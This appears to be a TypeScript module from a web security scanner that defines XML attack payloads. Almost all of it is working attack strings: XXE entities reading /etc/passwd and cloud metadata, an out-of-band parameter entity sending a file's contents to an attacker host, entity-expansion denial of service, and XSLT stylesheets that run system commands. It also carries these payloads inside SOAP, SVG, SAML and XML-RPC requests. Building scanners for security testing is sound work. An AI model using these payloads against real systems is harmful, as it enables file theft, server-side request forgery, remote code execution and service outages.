import { byteString, multipartMessage, postMessage } from '../message.ts';
import { attackerHost, type TechniqueFamily } from '../technique.ts';

const document = (subset: string, content: string): string =>
  `<?xml version="1.0"?>\n<!DOCTYPE order [${subset}]>\n<order><note>${content}</note></order>`;

export const xmlTechniques: TechniqueFamily = {
  about: 'an XML document',
  places: ['raw body', 'form value', 'JSON leaf', 'query value', 'file content', 'multipart field'],
  fields: ['xml', 'data', 'feed', 'document', 'svg'],
  techniques: {
    'external entity': {
      does: 'Declares an entity whose content is a file or the response of a host',
      needs: 'XML parsers that load entities',
      values: (random) => [
        document('<!ENTITY f SYSTEM "file:///etc/passwd">', '&f;'),
        document(`<!ENTITY h SYSTEM "http://${attackerHost(random)}/a">`, '&h;'),
        document('<!ENTITY w SYSTEM "file:///c:/windows/win.ini">', '&w;'),
        document(
          '<!ENTITY p PUBLIC "any" "php://filter/convert.base64-encode/resource=index.php">',
          '&p;',
        ),
        document('<!ENTITY m SYSTEM "http://169.254.169.254/latest/meta-data/">', '&m;'),
        document('<!ENTITY e SYSTEM "expect://id">', '&e;'),
      ],
    },
    'parameter entity': {
      does: 'Loads further declarations from another host',
      needs: 'XML parsers that load entities',
      values: (random) => [
        document(`<!ENTITY % d SYSTEM "http://${attackerHost(random)}/x.dtd"> %d;`, 'x'),
        document(
          `<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % all "<!ENTITY send SYSTEM 'http://${attackerHost(random)}/?%f;'>">%all;`,
          '&send;',
        ),
        document(
          '<!ENTITY % l SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd"><!ENTITY % ISOamso \'x\'>%l;',
          'x',
        ),
      ],
    },
    'external subset': {
      does: 'Names a document type at another host',
      needs: 'XML parsers that load document types',
      values: (random) => [
        `<?xml version="1.0"?><!DOCTYPE order SYSTEM "http://${attackerHost(random)}/o.dtd"><order/>`,
        `<!DOCTYPE order PUBLIC "-//A//B" "http://${attackerHost(random)}/o.dtd"><order>1</order>`,
      ],
    },
    'expanding entities': {
      does: 'Declares entities that grow without limit',
      needs: 'XML parsers that expand entities',
      values: () => [
        document(
          '<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">',
          '&d;',
        ),
        document(`<!ENTITY x "${'A'.repeat(500)}">`, '&x;'.repeat(50)),
      ],
    },
    XInclude: {
      does: 'Includes a file or the response of a host',
      needs: 'XML parsers with XInclude',
      values: () => [
        '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></a>',
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="http://evil.example/a.xml"/>',
      ],
    },
    stylesheet: {
      does: 'Is a stylesheet that reads files or runs code',
      needs: 'XSLT processors with extensions',
      values: () => [
        '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:template match="/"><xsl:copy-of select="document(\'/etc/passwd\')"/></xsl:template></xsl:stylesheet>',
        '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:php="http://php.net/xsl"><xsl:template match="/"><xsl:value-of select="php:function(\'system\',\'id\')"/></xsl:template></xsl:stylesheet>',
        '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:msxsl="urn:schemas-microsoft-com:xslt"><msxsl:script language="C#">public string q(){return "x";}</msxsl:script></xsl:stylesheet>',
        '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime"><xsl:variable name="r" select="rt:exec(rt:getRuntime(),\'id\')"/></xsl:stylesheet>',
      ],
    },
    'in SOAP, SVG and SAML': {
      does: 'Declares an entity in a document of another vocabulary',
      needs: 'XML parsers that load entities',
      requests: (random) => {
        const entity = `<!DOCTYPE x [<!ENTITY q SYSTEM "http://${attackerHost(random)}/">]>`;
        const svg = `<?xml version="1.0"?>${entity}<svg xmlns="http://www.w3.org/2000/svg"><text>&q;</text></svg>`;
        const saml = `${entity}<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol"><x>&q;</x></samlp:Response>`;
        return [
          postMessage(
            '/soap',
            'text/xml',
            `<?xml version="1.0"?>${entity}<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>&q;</soap:Body></soap:Envelope>`,
          ),
          multipartMessage('/avatar', [
            { name: 'file', fileName: 'me.svg', type: 'image/svg+xml', content: svg },
          ]),
          postMessage(
            '/saml/acs',
            'application/x-www-form-urlencoded',
            `SAMLResponse=${encodeURIComponent(Buffer.from(saml).toString('base64'))}`,
          ),
          postMessage(
            '/xmlrpc.php',
            'text/xml',
            `<?xml version="1.0"?>${entity}<methodCall><methodName>&q;</methodName></methodCall>`,
          ),
          postMessage(
            '/api/orders',
            'application/xml; charset=utf-16',
            Buffer.from(
              `\ufeff<?xml version="1.0" encoding="UTF-16"?>${entity}<order>&q;</order>`,
              'utf16le',
            ).toString('latin1'),
          ),
          postMessage(
            '/api/orders',
            'application/json',
            byteString(`<?xml version="1.0"?>${entity}<order>&q;</order>`),
          ),
        ];
      },
    },
  },
};
